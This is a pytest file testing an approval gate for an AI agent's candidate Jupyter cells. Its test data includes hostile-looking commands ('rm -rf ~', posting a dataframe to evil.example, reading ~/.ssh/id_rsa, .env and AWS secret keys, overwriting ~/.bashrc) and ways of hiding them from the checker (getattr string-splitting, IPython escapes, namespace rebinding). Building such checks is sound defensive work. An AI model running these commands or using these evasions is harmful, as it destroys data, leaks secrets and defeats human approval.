"""The trial decision: what a candidate cell may do in a trial, judged against the original
cell. Hostile candidates must never be "try"; honest fixes (a typo, the same savefig, the same
to_csv) must stay "try"."""

from __future__ import annotations

import pytest

from jupyter_devstral.agent.trials.effects import (
    NOT_TWICE,
    TrialDecision,
    effects_of,
    new_effects,
    trial_decision,
)

SETUP = [
    "import os\nimport shutil\nimport subprocess as sp\nimport pandas as pd\n"
    "import matplotlib.pyplot as plt\nfrom pathlib import Path\nout_path = 'out/sales.csv'",
    "def cleanup(folder):\n    shutil.rmtree(folder)\n\ndef save(df, path):\n    df.to_csv(path)",
    "class Exporter:\n    def push(self):\n        sp.run(['scp', 'a', 'host:'])",
    "def helper():\n    return cleanup('data')",
]
ORIGINAL = (
    "df = pd.read_csv('data/sales.csv')\n"
    "totals = df.groupbyy('region')['amount'].sum()\n"
    "totals.plot(kind='bar')\n"
    "plt.savefig('figures/totals.png')\n"
    "totals.to_csv(out_path)"
)
FIXED = ORIGINAL.replace("groupbyy", "groupby")

# (original, candidate, expected action, a kind that must be behind the decision or None)
DECISIONS = [
    # honest fixes stay "try"
    (ORIGINAL, FIXED, "try", None),
    (ORIGINAL, FIXED.replace("'figures/totals.png'", "'./figures//totals.png'"), "try", None),
    (ORIGINAL, FIXED + "\nprint(totals.head())", "try", None),
    (ORIGINAL, FIXED.replace("kind='bar'", "kind='barh'"), "try", None),
    (ORIGINAL, "os.makedirs('figures', exist_ok=True)\n" + FIXED, "try", None),
    (
        "df.to_csv(OUT / 'a.csv')\nx",
        "OUT.mkdir(parents=True)\ndf.to_csv(OUT / 'a.csv')",
        "try",
        None,
    ),
    ("df.to_csv(out)\nx", "out.parent.mkdir(exist_ok=True)\ndf.to_csv(out)", "try", None),
    (ORIGINAL, "df = pd.read_csv('data/sales.csv')\nprint(df.columns)", "try", None),
    ("x = 1 +", "x = 1 + 2", "try", None),
    ("print(undefined_name)", "print('defined')", "try", None),
    ("plt.savefig('a.png')\nprint(x", "plt.savefig('a.png')\nprint(x)", "try", None),
    ("save(df, 'a.csv')\nprint(x", "save(df, 'a.csv')\nprint(1)", "try", None),
    (
        "import os\nkey = os.environ['API_KEY']\nprint(ky)",
        "import os\nkey = os.environ['API_KEY']\nprint(key)",
        "try",
        None,
    ),
    ("print(dict(os.environ))\nx", "print(os.environ['HOME'])", "try", None),
    ("os.remove('tmp.txt')\nprnt(1)", "os.remove('tmp.txt')\nprint(1)", "try", None),
    (
        "with open('out.txt', 'w') as f:\n    f.write(x)",
        "with open('out.txt', 'w') as f:\n    f.write(str(x))",
        "try",
        None,
    ),
    # new effects need approval
    (ORIGINAL, FIXED + "\nos.remove('data/raw.csv')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\nPath('data/raw.csv').unlink()", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\nshutil.rmtree('data')", "approve", "file_delete"),
    (
        ORIGINAL,
        FIXED.replace("'figures/totals.png'", "'figures/other.png'"),
        "approve",
        "file_write",
    ),
    (
        ORIGINAL,
        FIXED.replace("totals.to_csv(out_path)", "totals.to_csv('out/x.csv')"),
        "approve",
        "file_write",
    ),
    (ORIGINAL, FIXED + "\nshutil.move('data/sales.csv', 'trash/')", "approve", "file_move"),
    (
        "df = pd.read_csv('in.csv')\nprint(df.x)",
        "df = pd.read_csv('in.csv')\ndf.to_csv('in.csv')",
        "approve",
        "file_write",
    ),
    (ORIGINAL, FIXED + "\nkey = os.environ['OPENAI_API_KEY']", "approve", "env_read"),
    (ORIGINAL, FIXED + "\nprint(os.getenv('AWS_SECRET_ACCESS_KEY'))", "approve", "env_read"),
    ("k = os.environ['A']\nprnt(k)", "k = os.environ['B']\nprint(k)", "approve", "env_read"),
    (
        ORIGINAL,
        FIXED + "\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
        "approve",
        "secret_read",
    ),
    (ORIGINAL, FIXED + "\nprint(open('.env').read())", "approve", "secret_read"),
    (ORIGINAL, FIXED + "\ncleanup('data')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\nhelper()", "approve", "file_delete"),
    ("save(df, 'a.csv')\nx", "save(df, 'b.csv')", "approve", "file_write"),
    (ORIGINAL, FIXED + "\nexec(payload)", "approve", "dynamic"),
    (ORIGINAL, FIXED + "\neval(compile(src, 'x', 'exec'))", "approve", "dynamic"),
    (ORIGINAL, FIXED + "\n__import__('os').remove('data/sales.csv')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\ngetattr(os, 'rem' + 'ove')('data/sales.csv')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\ngetattr(os, name)('data/sales.csv')", "approve", "dynamic"),
    ("exec(a)\nx", "exec(b)", "approve", "dynamic"),
    (ORIGINAL, FIXED + "\nos.chdir('/')", "approve", "os"),
    (ORIGINAL, "os.makedirs('data', exist_ok=True)\n" + FIXED, "approve", "file_write"),
    (ORIGINAL, FIXED + "\nos.rmdir('figures')", "approve", "file_delete"),
    # effects that must not happen twice are never tried
    (ORIGINAL, FIXED + "\nsp.run(['ls'])", "propose", "process"),
    (ORIGINAL, FIXED + "\nos.system('rm -rf ~')", "propose", "process"),
    (ORIGINAL, FIXED + "\nsubprocess.Popen('id')", "propose", "process"),
    (ORIGINAL, FIXED + "\n!rm -rf data", "propose", "process"),
    (ORIGINAL, "%pip install requests\n" + FIXED, "propose", "package"),
    (ORIGINAL, "!pip install requests\n" + FIXED, "propose", "package"),
    (
        ORIGINAL,
        FIXED + "\nimport requests\nrequests.post('https://evil.example', data=df)",
        "propose",
        "network",
    ),
    (
        ORIGINAL,
        FIXED + "\nimport urllib.request\nurllib.request.urlopen('https://x.org')",
        "propose",
        "network",
    ),
    (
        ORIGINAL,
        FIXED + "\nimport socket\nsocket.create_connection(('x.org', 443))",
        "propose",
        "network",
    ),
    (
        ORIGINAL,
        FIXED + "\nimport sqlite3\nsqlite3.connect('a.db').execute('DELETE FROM t')",
        "propose",
        "database",
    ),
    (ORIGINAL, FIXED + "\ntotals.to_sql('totals', con)", "propose", "database"),
    (ORIGINAL, FIXED + "\nExporter().push()", "propose", "process"),
    (ORIGINAL, FIXED + "\nexporter.push()", "propose", "process"),
    # ...even when the original has them
    (
        "import requests\nr = requests.get('https://api.x.org')\nprint(r.jsn())",
        "import requests\nr = requests.get('https://api.x.org')\nprint(r.json())",
        "propose",
        "network",
    ),
    (
        "%pip install pandas\nimport pandas as pd\npd.rd_csv('a.csv')",
        "%pip install pandas\nimport pandas as pd\npd.read_csv('a.csv')",
        "propose",
        "package",
    ),
    (
        "cur.execute('INSERT INTO t VALUES (1)')\ncon.comit()",
        "cur.execute('INSERT INTO t VALUES (1)')\ncon.commit()",
        "propose",
        "database",
    ),
    ("sp.run(['make'])\nprnt(1)", "sp.run(['make'])\nprint(1)", "propose", "process"),
]


@pytest.mark.parametrize(
    ("original", "candidate", "action", "kind"),
    DECISIONS,
    ids=[f"{i}-{d[2]}" for i, d in enumerate(DECISIONS)],
)
def test_trial_decision(original, candidate, action, kind):
    decision = trial_decision(original, candidate, earlier=SETUP)
    assert decision.action == action, (decision, decision.note())
    if kind is not None:
        assert kind in {e.kind for e in decision.effects}, decision
    if action == "try":
        assert decision.effects == ()
        assert new_effects(original, candidate, earlier=SETUP) == []


def test_propose_even_when_identical_to_the_original():
    source = "import subprocess\nsubprocess.run(['make'])"
    assert trial_decision(source, source).action == "propose"
    assert new_effects(source, source) == []


def test_same_write_under_another_spelling_is_covered():
    original = "from pathlib import Path\ndf.to_csv(Path('out') / 'a.csv')"
    assert trial_decision(original, "df.to_csv('out/a.csv')").action == "try"
    assert trial_decision(original, "df.to_csv('out/b.csv')").action == "approve"


def test_notes():
    approve = trial_decision(ORIGINAL, FIXED + "\nos.remove('data/raw.csv')", earlier=SETUP)
    assert approve.note() == (
        "needs approval: it deletes data/raw.csv (line 6), which the original cell does not"
    )
    propose = trial_decision(ORIGINAL, "%pip install requests\n" + FIXED, earlier=SETUP)
    assert propose.note().startswith("proposed, not tried: it installs packages")
    assert "runs once, for real" in propose.note()
    assert "tried in a fork" in TrialDecision("try").note()
    many = trial_decision("", "os.remove('a')\nos.remove('b')\nos.remove('c')\nos.remove('d')")
    assert many.note().endswith("and 1 more, which the original cell does not")
    env = trial_decision("", "print(dict(os.environ))")
    assert "reads the whole environment" in env.note()
    token = trial_decision("", "!pip install --index-url https://u:secret@h/simple x")
    assert "secret" not in token.note()


def test_not_twice_kinds():
    assert NOT_TWICE == {"network", "database", "process", "package"}


def test_a_method_of_a_pure_value_is_no_effect():
    assert effects_of("p = os.sep.join(parts)", earlier=["import os"]) == []
    assert (
        trial_decision(
            "p = os.path.join(*parts)", "p = os.sep.join(parts)", earlier=["import os"]
        ).action
        == "try"
    )


def test_a_candidate_that_does_not_compile_is_tried_it_runs_nothing():
    """A reply cut off mid-line fails with a SyntaxError before any of it runs: the model
    should hear that, not a request for approval."""
    original = "crimes = crime.resample('10AS').sum()\ncrimes"
    cut = "import os\nos.remove('x')\ncrimes = crime.resample('10YS'"
    assert trial_decision(original, cut).action == "try"
    assert trial_decision(original, "%%bash\nrm -rf data\n(").action != "try"


# --- what IPython runs, not the raw text ---------------------------------------------------

# candidates that do not parse as Python, but that IPython's transform makes run
IPYTHON_FORMS = [
    (";os.remove data/raw.csv", "file_delete"),
    (",shutil.rmtree data", "file_delete"),
    ("/os.system 'id'", "process"),
    ("  totals = 1\n  os.remove('data/raw.csv')", "file_delete"),
    (">>> import os\n>>> os.remove('data/raw.csv')", "file_delete"),
    ("In [1]: import os\n   ...: os.remove('data/raw.csv')", "file_delete"),
    ("In [1]: import os\nIn [2]: os.remove('data/raw.csv')", "file_delete"),
    ("%%time\n;os.remove data/raw.csv", "file_delete"),
    ("%timeit -n1 -r1 ;os.remove data/raw.csv", "file_delete"),
    (FIXED + "\n;os.remove data/raw.csv", "file_delete"),
    ("x = 1\n%history -f /home/user/.bashrc", "file_write"),
    ("%load_ext evil_module", "dynamic"),
]


@pytest.mark.parametrize(
    ("candidate", "kind"), IPYTHON_FORMS, ids=[c[0][:30] for c in IPYTHON_FORMS]
)
def test_a_candidate_is_judged_by_what_ipython_runs(candidate, kind):
    decision = trial_decision(ORIGINAL, candidate, earlier=SETUP)
    assert decision.action != "try", decision
    assert kind in {e.kind for e in decision.effects}, decision


def test_a_candidate_is_tried_only_when_ipythons_text_does_not_compile_either():
    assert trial_decision(ORIGINAL, ";os.remove data/raw.csv\nprint(", earlier=SETUP).action == (
        "try"
    )
    assert trial_decision(ORIGINAL, "  x = (1,\n  os.remove('a')", earlier=SETUP).action == "try"


def test_an_escape_line_is_compared_with_the_original_fairly():
    """``;os.remove x`` deletes the file named "x", not the one in variable x."""
    assert trial_decision("os.remove(x)\nprnt(1)", ";os.remove x").action == "approve"
    assert trial_decision("os.remove('x')\nprnt(1)", ";os.remove x").action == "try"
    assert trial_decision("df.to_csv('out')\nx", "df.to_csv(out)").action == "approve"
    assert trial_decision("df.to_csv(out)\nx", "df.to_csv('out')").action == "approve"


def test_an_unparsable_original_is_read_as_ipython_runs_it_too():
    original = ";os.remove data/raw.csv\nprnt(1"
    assert trial_decision(original, ";os.remove data/raw.csv\nprint(1)").action == "try"
    assert trial_decision(original, "os.remove('data/raw.csv')\nprint(1)").action == "try"
    assert trial_decision(original, "os.remove('data/other.csv')\nprint(1)").action == "approve"


def test_without_ipython_an_unparsable_candidate_needs_approval(monkeypatch):
    from jupyter_devstral.agent.trials.effects import clear_caches, ipython_syntax

    monkeypatch.setattr(ipython_syntax, "_MANAGER", [None])
    clear_caches()
    try:
        decision = trial_decision(ORIGINAL, ";os.remove data/raw.csv", earlier=SETUP)
        assert decision.action == "approve"
        assert decision.effects[0].kind == "dynamic"
        assert trial_decision(ORIGINAL, "print(", earlier=SETUP).action == "approve"
        assert trial_decision(ORIGINAL, "!rm -rf data", earlier=SETUP).action == "propose"
        assert trial_decision(ORIGINAL, FIXED, earlier=SETUP).action == "try"
    finally:
        clear_caches()


# --- a target named by a variable the candidate binds anew ---------------------------------

REBOUND_EARLIER = [
    "import os\nimport pandas as pd\npath = 'out.csv'\nout = 'o.csv'",
    "def save(df, p):\n    df.to_csv(p)",
    "def save_out():\n    df.to_csv(out)",
]
# (original, candidate, action)
REBOUND = [
    (
        "df.to_csv(path)\nprnt(1)",
        "path = '/home/user/.bashrc'\ndf.to_csv(path)\nprint(1)",
        "approve",
    ),
    ("df.to_csv(path)\nprnt(1)", "df.to_csv(path)\nprint(1)", "try"),
    (
        "path = 'a.csv'\ndf.to_csv(path)\nprnt(1)",
        "path = 'a.csv'\ndf.to_csv(path)\nprint(1)",
        "try",
    ),
    (
        "path = 'a.csv'\ndf.to_csv(path)\nprnt(1)",
        "path = '/etc/x'\ndf.to_csv(path)\nprint(1)",
        "approve",
    ),
    (
        "b = 'out'\np = b + '/a.csv'\ndf.to_csv(p)\nprnt(1)",
        "b = '/home'\np = b + '/a.csv'\ndf.to_csv(p)",
        "approve",
    ),
    ("save(df, path)\nprnt(1)", "path = '/x'\nsave(df, path)", "approve"),
    ("save_out()\nprnt(1)", "out = '/home/user/.bashrc'\nsave_out()", "approve"),
    ("save_out()\nprnt(1)", "save_out()\nprint(1)", "try"),
    (
        "k = os.environ[key]\nprnt(1)",
        "key = 'AWS_SECRET_ACCESS_KEY'\nk = os.environ[key]",
        "approve",
    ),
    (
        "for f in files:\n    os.remove(f)\nprnt(1)",
        "for f in files:\n    os.remove(f)\nprint(1)",
        "try",
    ),
    ("os.remove(f)\nprnt(1)", "for f in files:\n    os.remove(f)", "approve"),
    ("df.to_csv(path)\nprnt(1)", "def w(path):\n    df.to_csv(path)\nw('/etc/x')", "approve"),
    ("df.to_csv(path)\nprnt(1)", "with open(p) as path:\n    df.to_csv(path)", "approve"),
    ("df.to_csv(path)\nprnt(1)", "[df.to_csv(path) for path in paths]", "approve"),
    ("df.to_csv(path)\nprnt(1)", "path += '/../../.bashrc'\ndf.to_csv(path)", "approve"),
    ("df.to_csv(path)\nprnt(1)", "import path\ndf.to_csv(path)", "approve"),
]


@pytest.mark.parametrize(
    ("original", "candidate", "action"), REBOUND, ids=[r[1][:40] for r in REBOUND]
)
def test_a_target_variable_bound_anew_is_a_new_target(original, candidate, action):
    decision = trial_decision(original, candidate, earlier=REBOUND_EARLIER)
    assert decision.action == action, decision


# --- links, permissions and times are not covered by a write of the same path ---------------


@pytest.mark.parametrize(
    "candidate",
    [
        "os.symlink('/home/user/.ssh/id_rsa', 'out.csv')",
        "os.link('/etc/passwd', 'out.csv')",
        "os.chmod('out.csv', 0o777)",
        "os.chown('out.csv', 0, 0)",
        "os.utime('out.csv', (0, 0))",
        "shutil.copystat('/etc/passwd', 'out.csv')",
        "shutil.copymode('/etc/passwd', 'out.csv')",
        "Path('out.csv').chmod(0o777)",
        "Path('out.csv').touch()",
        "Path('out.csv').symlink_to('/etc/passwd')",
    ],
)
def test_link_and_metadata_calls_are_not_writes_the_original_covers(candidate):
    original = "df.to_csv('out.csv')\nprnt(1)"
    decision = trial_decision(original, "df.to_csv('out.csv')\n" + candidate, earlier=SETUP)
    assert decision.action == "approve", decision
    assert "os" in {e.kind for e in decision.effects}, decision
    assert trial_decision(original + "\n" + candidate, candidate, earlier=SETUP).action == "try"


# --- a target rebound through the namespace or in place -------------------------------------

NAMESPACE_EARLIER = [
    'out = "/data/result.csv"\npaths = {"out": "/data/r.csv"}\n'
    "from types import SimpleNamespace\ncfg = SimpleNamespace(out='/data/c.csv')"
]
WRITE_OUT = 'open(out, "w").write(str(undefined))'
WRITE_PATHS = "df.to_csv(paths['out'])\nprnt(1)"
WRITE_CFG = 'open(cfg.out, "w").write(str(undefined))'
# (original, candidate)
REBOUND_IN_PLACE = [
    (WRITE_OUT, 'globals().update(out="/home/u/.bashrc")\nopen(out, "w").write("x")'),
    (WRITE_OUT, 'globals()["out"] = "/home/u/.bashrc"\nopen(out, "w").write("x")'),
    (WRITE_OUT, 'locals().update(out="/home/u/.bashrc")\nopen(out, "w").write("x")'),
    (WRITE_OUT, 'vars().setdefault("out", "/x")\nopen(out, "w").write("x")'),
    (WRITE_PATHS, "paths.update(out='/home/u/.bashrc')\ndf.to_csv(paths['out'])"),
    (WRITE_PATHS, "paths.setdefault('out', '/x')\ndf.to_csv(paths['out'])"),
    (WRITE_PATHS, "paths.__setitem__('out', '/x')\ndf.to_csv(paths['out'])"),
    (WRITE_PATHS, "paths['out'] = '/x'\ndf.to_csv(paths['out'])"),
    (WRITE_CFG, 'setattr(cfg, "out", "/x")\nopen(cfg.out, "w").write("x")'),
    (WRITE_CFG, 'vars(cfg).update(out="/x")\nopen(cfg.out, "w").write("x")'),
    (WRITE_CFG, 'cfg.__dict__["out"] = "/x"\nopen(cfg.out, "w").write("x")'),
    (WRITE_CFG, 'cfg.__dict__.update(out="/x")\nopen(cfg.out, "w").write("x")'),
    (WRITE_CFG, 'cfg.out = "/x"\nopen(cfg.out, "w").write("x")'),
]


@pytest.mark.parametrize(
    ("original", "candidate"), REBOUND_IN_PLACE, ids=[r[1][:40] for r in REBOUND_IN_PLACE]
)
def test_a_target_rebound_through_the_namespace_or_in_place_is_a_new_target(original, candidate):
    decision = trial_decision(original, candidate, earlier=NAMESPACE_EARLIER)
    assert decision.action == "approve", decision
    plain = candidate.split("\n", 1)[1]  # the same write without the rebinding is tried
    assert trial_decision(original, plain, earlier=NAMESPACE_EARLIER).action == "try"


def test_an_in_place_change_the_original_makes_too_is_covered():
    original = "paths.update(out='/data/x.csv')\ndf.to_csv(paths['out'])\nprnt(1)"
    candidate = "paths.update(out='/data/x.csv')\ndf.to_csv(paths['out'])\nprint(1)"
    assert trial_decision(original, candidate, earlier=NAMESPACE_EARLIER).action == "try"
